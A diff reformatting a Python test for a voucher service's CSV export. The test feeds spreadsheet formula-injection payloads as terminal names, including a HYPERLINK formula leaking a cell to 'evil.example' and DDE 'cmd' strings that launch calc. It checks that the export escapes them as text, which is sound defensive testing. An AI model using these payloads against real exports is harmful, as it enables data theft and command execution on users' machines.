@@ -16,12 +16,17 @@ from tests.servers import NOON, LiveServer
 
 from .conftest import DAY, PASSWORD, Operator
 
-NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Details")', "+33 1 23 45 67 89",
-         "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
+NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
+    "+33 1 23 45 67 89",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 
 
-@pytest.mark.parametrize(("lang", "delimiter", "minus"), [("fr", ";", "-6,50"),
-                                                          ("en", ",", "-6.50")])  # fmt: skip
+@pytest.mark.parametrize(
+    ("lang", "delimiter", "minus"), [("fr", ";", "-6,50"), ("en", ",", "-6.50")]
+)
 def test_a_terminals_name_is_text_and_a_negative_amount_a_number(
     live_server: LiveServer, lang: str, delimiter: str, minus: str
 ) -> None:
@@ -30,12 +35,19 @@ def test_a_terminals_name_is_text_and_a_negative_amount_a_number(
     ).result(timeout=30)
     issuer, payer, *others = (live_server.terminal(name) for name in NAMES)
     with issuer, payer:
-        voucher = issuer.post("/v1/vouchers", json={
-            "transaction_id": str(uuid.uuid4()), "amount": 650, "reason": "cash_out"})  # fmt: skip
+        voucher = issuer.post(
+            "/v1/vouchers",
+            json={"transaction_id": str(uuid.uuid4()), "amount": 650, "reason": "cash_out"},
+        )
         assert voucher.status_code == 200, voucher.text
-        paid = payer.post("/v1/vouchers/redemptions", json={
-            "transaction_id": str(uuid.uuid4()), "barcode": voucher.json()["barcode"],
-            "method": "cash"})  # fmt: skip
+        paid = payer.post(
+            "/v1/vouchers/redemptions",
+            json={
+                "transaction_id": str(uuid.uuid4()),
+                "barcode": voucher.json()["barcode"],
+                "method": "cash",
+            },
+        )
         assert paid.status_code == 200, paid.text
     for client in others:
         client.close()
@@ -48,8 +60,9 @@ def test_a_terminals_name_is_text_and_a_negative_amount_a_number(
     rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=delimiter))
     names = [row[1] for row in rows[1:-1]]
     assert sorted(names) == sorted("'" + name for name in NAMES)  # each read as text
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
-                   for row in rows for cell in row[:3])  # fmt: skip
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:3]
+    )
     balance = rows[0].index("Solde de caisse (€)" if lang == "fr" else "Balance (€)")
     by_name = {row[1][1:]: row for row in rows[1:-1]}
     assert by_name[NAMES[1]][balance] == minus  # a number, as the spreadsheet reads one
